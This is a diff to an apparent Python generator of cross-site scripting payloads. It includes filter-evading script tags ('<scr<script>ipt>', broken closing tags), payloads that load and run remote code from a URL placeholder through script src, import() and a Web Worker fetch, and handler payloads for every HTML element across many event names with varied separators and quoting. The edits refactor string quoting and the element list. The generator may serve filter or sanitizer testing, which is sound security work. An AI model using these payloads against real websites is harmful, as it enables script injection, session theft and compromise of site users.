@@ -23,14 +23,19 @@ def scripts() -> Iterator[str]:
         f"<scr<script>ipt>{JS}</scr</script>ipt>{SCRIPT}",
         f"<<script>{JS}//<</script>",
         f"<script async defer src={URL} integrity=x crossorigin></script>",
-        f"<script>import({URL!r})</script>",
+        f"<script>import('{URL}')</script>",
         f"<script>new Worker('data:text/javascript,fetch(\"http:{URL}\")')</script>",
     )
 
 
-ELEMENTS = tuple(
-    ["a", "abbr", "acronym", "address", "applet", "area", "article", "aside", "audio", "b", "bdi", "bdo", "big", "blink", "blockquote", "br", "button", "canvas", "center", "cite", "code", "command", "content", "data", "datalist", "dd", "del", "details", "dfn", "dialog", "dir", "div", "dl", "dt", "em", "embed", "fieldset", "figcaption", "figure", "font", "footer", "form", "h1", "h6", "header", "hgroup", "hr", "i", "img", "input", "ins", "kbd", "keygen", "label", "legend", "li", "main", "map", "mark", "marquee", "menu", "menuitem", "meter", "nav", "nobr", "object", "ol", "output", "p", "picture", "pre", "progress", "q", "rp", "rt", "ruby", "s", "samp", "search", "section", "select", "shadow", "slot", "small", "source", "span", "strike", "strong", "sub", "summary", "sup", "svg", "table", "textarea", "time", "track", "tt", "u", "ul", "var", "video", "wbr", "xmp", "x-own"]
-)
+ELEMENTS = """
+a abbr acronym address applet area article aside audio b bdi bdo big blink blockquote br button
+canvas center cite code command content data datalist dd del details dfn dialog dir div dl dt em
+embed fieldset figcaption figure font footer form h1 h6 header hgroup hr i img input ins kbd keygen
+label legend li main map mark marquee menu menuitem meter nav nobr object ol output p picture pre
+progress q rp rt ruby s samp search section select shadow slot small source span strike strong sub
+summary sup svg table textarea time track tt u ul var video wbr xmp x-own
+"""
 
 
 EVENTS = ("mouseover", "click", "focus", "pointerenter", "focusin", "mousemove", "pointerdown",
@@ -41,7 +46,7 @@ def handlers() -> Iterator[str]:
     """Every element kind with a handler; quotes and what parts the attributes take turns."""
     ways = cycle(zip(EVENTS, (" ", "/", "\n", "\t", "\f", " ", "\r", "  "), strict=True))
     quotes = cycle(("", '"', "'"))
-    for element, (event, gap), q in zip(ELEMENTS, ways, quotes, strict=False):
+    for element, (event, gap), q in zip(ELEMENTS.split(), ways, quotes, strict=False):
         yield f"<{element}{gap}tabindex=0{gap}on{event}={q}{JS}{q}>pass over me</{element}>"
 
 
